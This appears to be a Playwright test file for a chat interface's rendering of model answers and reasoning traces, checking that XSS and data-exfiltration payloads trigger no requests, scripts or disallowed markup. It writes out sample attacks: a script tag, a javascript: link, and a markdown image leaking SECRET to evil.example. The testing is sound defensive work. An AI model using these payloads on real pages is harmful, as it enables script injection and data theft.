import assert from 'node:assert/strict';
import { type AddressInfo, type Server, createServer } from 'node:net';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { startBrowser } from './browser.ts';
import type { AssistantTurnView } from '../../src/shared/chat.ts';
import { FakeHost, question, reply, thinking, viewOf } from './fakeHost.ts';
import { exfiltrations, scripts } from './hostile.ts';
import { type PageServer, servePage } from './server.ts';

let browser: Browser;
let server: PageServer;
let world: Server;
/** Connections to any host under .example: the browser takes them all to one listener on this machine. */
let leaks = 0;

before(async () => {
  world = createServer(socket => {
    leaks += 1;
    socket.destroy();
  });
  await new Promise<void>(resolve => world.listen(0, '127.0.0.1', resolve));
  const { port } = world.address() as AddressInfo;
  [browser, server] = await Promise.all([startBrowser({ worldPort: port }), servePage()]);
});
after(async () => {
  await browser?.close();
  await server?.close();
  world?.close();
});

const allowedElements = new Set(
  'a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const allowedInFormulas = new Set(
  'math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle msub msup msubsup munder mover munderover mtable mtr mtd mphantom mpadded menclose'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'aria-controls aria-expanded aria-hidden aria-label aria-pressed class draggable href rel role scope start tabindex title type'.split(
    ' ',
  ),
);
const allowedAttributesInFormulas = new Set(
  'class display displaystyle scriptlevel mathvariant form fence separator stretchy symmetric largeop movablelimits accent accentunder lspace rspace width height depth minsize maxsize linethickness columnspan notation'.split(
    ' ',
  ),
);

interface Found {
  readonly tag: string;
  readonly isInFormula: boolean;
  readonly attributes: readonly string[];
  readonly href: string;
  readonly id: string;
}

/** All elements that were made of what the model wrote. */
const contentOf = (host: FakeHost): Promise<readonly Found[]> =>
  host.page.locator('[data-part]').evaluateAll(parts =>
    parts
      .flatMap(part => [...part.querySelectorAll('*')])
      .map(element => ({
        tag: element.localName,
        isInFormula: element.namespaceURI === 'http://www.w3.org/1998/Math/MathML',
        attributes: element.getAttributeNames(),
        href: element.getAttribute('href') ?? '',
        id: element.id,
      })),
  );

function isAllowed({ tag, isInFormula, attributes, href, id }: Found): boolean {
  const names = isInFormula ? allowedAttributesInFormulas : allowedAttributes;
  // The page's own ids tie a button to what it opens; a model has no say in them.
  const isOwnId = tag === 'pre' && /^P\d+-\d+$/.test(id);
  const others = attributes.filter(name => !names.has(name) && !(name === 'id' && isOwnId));
  return (
    (isInFormula ? allowedInFormulas : allowedElements).has(tag) &&
    others.length === 0 &&
    (href === '' || href.startsWith('https://'))
  );
}

/** Payloads shown at once: each in turns of its own. */
const atOnce = 20;
const steps = 7;

/** Each payload as an answer and as an open trace, cut at a share of its length. */
const turnsOf = (payloads: readonly string[], share: number): readonly AssistantTurnView[] =>
  payloads.map((payload, at) => {
    const text = payload.slice(0, Math.ceil(payload.length * share));
    const isWhole = share === 1;
    return reply({
      id: `${at}`,
      state: isWhole ? 'complete' : 'streaming',
      answer: text,
      thought: thinking({ text, ended: isWhole }),
    });
  });

/** Shows payloads whole, and then in growing pieces, in answers and traces; follows what looks like a link. */
async function show(host: FakeHost, payloads: readonly string[], check: () => Promise<void>): Promise<void> {
  await host.send(viewOf(turnsOf(payloads, 1), { reasoningPanel: 'open' }));
  await check();
  await host.page.locator('[data-part] a, [data-part] [tabindex]').evaluateAll(all => {
    for (const element of all) {
      for (const kind of ['mouseover', 'pointerenter', 'mousedown', 'focus', 'auxclick', 'click'])
        element.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
    }
  });
  for (let step = 1; step <= steps; step++) {
    const turns = turnsOf(payloads, step / steps);
    if (step === 1) await host.send(viewOf(turns, { reasoningPanel: 'open' }));
    else await host.send(...turns.map(turn => ({ kind: 'turn', turn }) as const));
    await check();
  }
}

interface Watched {
  readonly host: FakeHost;
  /** What the page did that it must not: dialogs and requests, as the page and as the browser's network tell them. */
  readonly wrongs: string[];
}

async function openWatched(height = 4000): Promise<Watched> {
  const host = await FakeHost.open(browser, server, { height });
  await host.send(viewOf([question, reply({ answer: '\\( x \\)' })]));
  await host.answer.locator('math').waitFor();
  const wrongs: string[] = [];
  host.page.on('dialog', dialog => {
    wrongs.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  host.page.on('request', request => wrongs.push(`request ${request.url()}`));
  const network = await host.page.context().newCDPSession(host.page);
  await network.send('Network.enable');
  network.on('Network.requestWillBeSent', ({ request }) => wrongs.push(`sent ${request.url}`));
  network.on('Network.webSocketCreated', ({ url }) => wrongs.push(`socket ${url}`));
  return { host, wrongs };
}

test('a page without protection lets both out: a connection and a script are seen', async () => {
  const leaksBefore = leaks;
  const page = await browser.newPage();
  await page.setContent(exfiltrations.find(payload => payload.startsWith('<img src')) ?? '');
  await page.waitForFunction(() => document.querySelector('img')?.complete === true);
  assert.ok(leaks > leaksBefore);
  await page.setContent(scripts.find(payload => payload.startsWith('<img src=x')) ?? '');
  await page.waitForFunction(() => 'pwned' in window);
  await page.close();
});

test('there are at least 26 exfiltrations and 200 scripts, all different', () => {
  assert.ok(new Set(exfiltrations).size >= 26);
  assert.ok(new Set(scripts).size >= 200);
});

for (const [kind, payloads] of Object.entries({ exfiltrations, scripts }))
  test(`${payloads.length} ${kind}, whole, in pieces and in the trace: no request, no script, nothing beyond the allowed`, async () => {
    const { host, wrongs } = await openWatched();
    const url = host.page.url();
    const start = { leaks, requests: server.requests.length };
    for (let at = 0; at < payloads.length; at += atOnce) {
      const batch = payloads.slice(at, at + atOnce);
      await show(host, batch, async () => {
        const found = await contentOf(host);
        assert.ok(found.length >= batch.length, 'the payloads are shown');
        assert.deepEqual(
          found.filter(one => !isAllowed(one)),
          [],
          JSON.stringify(batch),
        );
      });
      assert.equal(await host.page.evaluate(() => 'pwned' in window), false, JSON.stringify(batch));
    }
    assert.deepEqual(wrongs, []);
    assert.equal(leaks - start.leaks, 0);
    assert.equal(server.requests.length - start.requests, 0);
    assert.equal(host.page.url(), url);
    assert.equal(browser.contexts().flatMap(context => context.pages()).length, 1);
    await host.page.close();
  });

test('an answer keeps its words: markup that is refused is shown as text', async () => {
  const { host } = await openWatched();
  const shows = async (answer: string, text: string): Promise<void> => {
    await host.send(viewOf([question, reply({ answer })]));
    assert.equal(await host.answer.textContent(), text);
  };
  await shows('Hi <script>alert(1)</script> there', 'Hi <script>alert(1)</script> there');
  await shows('Use Map<string, List<int>> and Vec<T>.', 'Use Map<string, List<int>> and Vec<T>.');
  await shows('[click](javascript:alert(1))', 'click');
  await shows('![logo](https://evil.example/p.png?d=SECRET)', 'logo (https://evil.example/p.png?d=SECRET)');
  await shows('It costs $5, then $10; use $HOME.', 'It costs $5, then $10; use $HOME.');
  await shows('a\u202eb', 'aU+202Eb');
  await host.page.close();
});

test('the page asks the browser not to look up the hosts of links', async () => {
  const { host } = await openWatched();
  assert.equal(await host.page.locator('meta[http-equiv="x-dns-prefetch-control"][content="off"]').count(), 1);
  await host.page.close();
});
